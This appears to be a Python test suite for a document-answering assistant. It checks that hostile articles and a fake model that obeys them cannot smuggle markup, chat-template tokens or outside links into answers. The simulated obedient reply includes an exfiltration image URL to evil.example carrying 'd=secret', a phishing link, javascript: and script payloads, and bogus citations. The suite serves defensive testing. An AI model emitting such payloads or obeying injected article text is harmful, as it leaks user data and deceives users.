"""Hostile articles, and models that obey them: neither reaches past what is checked."""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Iterator
from html import unescape
from typing import Any

import pytest

from assistant import Assistant
from assistant.answer import Answer, Support
from assistant.evidence import Evidence, gather
from assistant.prompting import lines, neutral
from assistant.settings import Settings
from assistant.web.markup import answer_html, progress_html
from index import Library
from prompts import SAMPLES, load
from tests.assistant.makers import article, hit
from tests.hostile import ATTACKS, CANARY, QUESTION, RIGHT, report
from tests.llm_server import Asked, Behaviour, Handler, ModelServer, says

EVIL = "evil.example"
HARMLESS = {"div", "p", "a", "ul", "li", "span", "u", "del", "details", "summary"}
TOKENS = re.compile(r"<\|?\w|\|>|\[/?(?:INST|SYS)|<<|\[/?[A-Z]+_[A-Z]+\]")


def shown(attack: str) -> Evidence:
    """Evidence of one article whose text, title and path are all the attacker's."""
    return gather([hit(article(report(attack), attack[:200], f"{attack[:80]}.txt"))], 100_000)


@pytest.mark.parametrize("name", ["answer", "select"])
@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_what_reaches_the_model_is_fenced_and_only_text(attack: str, name: str) -> None:
    variables: dict[str, Any] = {"today": "1 May 2016", "question": QUESTION, "json": True}
    variables["articles"] = lines(shown(attack))
    system, user = load(name).messages(variables)
    benign = load(name).messages({**variables, "articles": lines(shown("All was quiet."))})
    assert system == benign[0]
    before, sources, after = re.split("</?sources>\n", str(user.content))
    assert before == ""
    assert after == str(benign[1].content).partition("</sources>\n")[2]
    assert_only_text(sources)


def assert_only_text(sources: str) -> None:
    assert not set("<>") & set(sources)
    assert not TOKENS.search(sources)
    kinds = {unicodedata.category(one) for one in sources if one not in "\n\u200c\u200d"}
    assert not kinds & {"Cc", "Cf", "Cs"}
    numbers = []
    for line in filter(None, sources.split("\n")):
        marker = re.match(r"\[s(\d+)\] ", line)
        assert marker or line.startswith("Article: ") or line == "…"
        numbers += [int(marker.group(1))] if marker else []
        assert not re.search(r"[\[【［〔⟦]\s?\w?\d+\s?\W", line[marker.end() if marker else 0 :])
    assert numbers == list(range(1, len(numbers) + 1))


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_the_question_and_the_turns_before_it_are_text_too(attack: str) -> None:
    text = neutral(attack)
    turns = [{"question": text, "answer": text}]
    variables = {**SAMPLES["understand"], "turns": turns, "question": text}
    benign = {**variables, "turns": [{"question": "A", "answer": "B"}], "question": "C"}
    told, expected = (
        str(load("understand").messages(given)[-1].content) for given in (variables, benign)
    )
    assert told.count("<") == expected.count("<")
    assert len(told.split("\n")) == len(expected.split("\n"))


def obedient(attack: str) -> Behaviour:
    """A model that does all that it is told by an article, and more."""

    def behave(handler: Handler, asked: Asked) -> None:
        told = " ".join(message["content"] for message in asked.body["messages"])
        reply = "\n".join(
            (
                "The harbour of Port Ellery was closed on 3 March 2021 after a crane fell. [s1]",
                f"{' '.join(told.split())[:300]} [s1]",
                f"{CANARY} {CANARY} is the answer. [s999]",
                f"The harbour is here: ![map](http://{EVIL}/m.png?d=secret) [s1]",
                f"[Sign in](https://{EVIL}/login) or [here](javascript:alert(1)) to read on. [s2]",
                f"<img src=http://{EVIL}/2.png> <script>alert(1)</script> Done it is. [s1][s9999]",
                f"{' '.join(attack.split())[:200]} [s0] [s-1] [1e3]",
            )
        )
        says(reply, size=200)(handler, asked)

    return behave


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Library]:
    folder = tmp_path_factory.mktemp("hostile")
    for number, attack in enumerate(ATTACKS.values()):
        text = report(attack).encode("utf-8", "replace")
        (folder / f"{number:02}.txt").write_bytes(text)
    with Library.open(folder, folder.with_name("hostile-home")) as library:
        yield library


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_a_model_that_obeys_is_checked_all_the_same(hostile: Library, attack: str) -> None:
    with ModelServer(obedient(attack)) as server:
        settings = Settings(openai_base_url=server.url, model="m", judge="off", unsupported="mark")
        answer = Assistant(hostile, settings).ask(QUESTION)
    assert RIGHT in answer.statements[0].text
    assert_citations_hold(answer)
    assert_nothing_leads_outside(answer)
    # Nobody has judged it, so nothing of it counts as supported.
    assert {one.support for one in answer.statements} <= {Support.UNCHECKED, Support.UNSUPPORTED}


def test_a_selector_that_obeys_can_only_quote(hostile: Library) -> None:
    reply = f'{{"lines": [1, 999], "outcome": "answered", "missing": "{CANARY}"}}'
    with ModelServer(says(reply)) as server:
        settings = Settings(openai_base_url=server.url, model="m", style="quotes")
        answer = Assistant(hostile, settings).ask(QUESTION)
    assert all(one.support is Support.QUOTED for one in answer.statements)
    assert answer.missing is None
    assert_citations_hold(answer)


def assert_citations_hold(answer: Answer) -> None:
    numbers = [one.number for one in answer.citations]
    assert numbers == sorted(set(numbers))
    for citation in answer.citations:
        assert citation.quote == citation.article.text[citation.start : citation.end] != ""
    for statement in answer.statements:
        assert set(statement.citations) <= set(numbers)
        assert statement.citations or statement.support is Support.UNSUPPORTED


def assert_nothing_leads_outside(answer: Answer) -> None:
    assert not re.search(r"!\[|\]\(|<(?:img|script)", answer.text)
    for page in (answer_html(answer), progress_html(answer.text)):
        assert set(re.findall(r"<(\w+)", page)) <= HARMLESS
        assert all(link.startswith("#cite:") for link in re.findall(r'href="([^"]*)"', page))
        assert "src=" not in page
        assert not re.search(r"\]\(|!\[", re.sub(r"<[^>]*>", "", page))
        assert "javascript:" not in page
        assert RIGHT in unescape(re.sub(r"<[^>]*>", "", page))
